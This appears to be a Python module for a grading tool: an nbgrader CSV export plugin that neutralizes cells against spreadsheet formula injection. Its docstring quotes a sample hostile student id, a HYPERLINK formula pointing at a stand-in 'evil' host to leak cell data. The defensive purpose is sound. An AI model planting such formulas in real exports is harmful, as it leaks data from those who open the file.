"""`nbgrader export` with cells a spreadsheet will not run (nbgrader's ExportApp.plugin_class).

nbgrader's own CsvExportPlugin joins fields with commas and writes them as they are, so a student
id such as ``=HYPERLINK("http://evil/?"&A1,"x")`` becomes a live formula in ``grades.csv`` (and an id
with a comma or a quote shifts the columns). This plugin writes the same columns and rows through
``csv`` with every cell neutralized (labgrader.reports.csv_safe).
"""
from __future__ import annotations

from typing import Any

from nbgrader.api import Assignment, Gradebook, MissingEntry, Student
from nbgrader.plugins import CsvExportPlugin

from labgrader.reports.csv_safe import Writer

KEYS = ["assignment", "duedate", "timestamp", "student_id", "last_name", "first_name", "email",
        "raw_score", "late_submission_penalty", "score", "max_score"]


class SafeCsvExportPlugin(CsvExportPlugin):
    """nbgrader's CSV export (same columns, same rows), safe to open in a spreadsheet."""

    def export(self, gradebook: Gradebook) -> None:
        dest = self.to or "grades.csv"
        students, assignments = [str(s) for s in self.student], [str(a) for a in self.assignment]
        self.log.info("Exporting grades to %s (cells neutralized against formula injection)", dest)
        with open(dest, "w", newline="") as fh:
            out = Writer(fh)
            out.writerow(KEYS)
            for assignment in gradebook.assignments:
                if assignments and assignment.name not in assignments:
                    continue
                for student in gradebook.students:
                    if students and student.id not in students:
                        continue
                    row = _row(gradebook, assignment, student)
                    out.writerow([row[k] for k in KEYS])


def _row(gradebook: Gradebook, assignment: Assignment, student: Student) -> dict[str, Any]:
    """What nbgrader's CsvExportPlugin puts in a row (a missing submission scores 0)."""
    row: dict[str, Any] = {"assignment": assignment.name, "duedate": assignment.duedate, "student_id": student.id,
           "last_name": student.last_name, "first_name": student.first_name, "email": student.email,
           "max_score": assignment.max_score}
    try:
        submission = gradebook.find_submission(assignment.name, student.id)
    except MissingEntry:
        row.update(timestamp="", raw_score=0.0, late_submission_penalty=0.0, score=0.0)
    else:
        penalty = submission.late_submission_penalty
        row.update(timestamp=submission.timestamp, raw_score=submission.score, late_submission_penalty=penalty,
                   score=max(0.0, submission.score - penalty))
    return {k: "" if v is None else v if isinstance(v, (int, float)) else str(v) for k, v in row.items()}
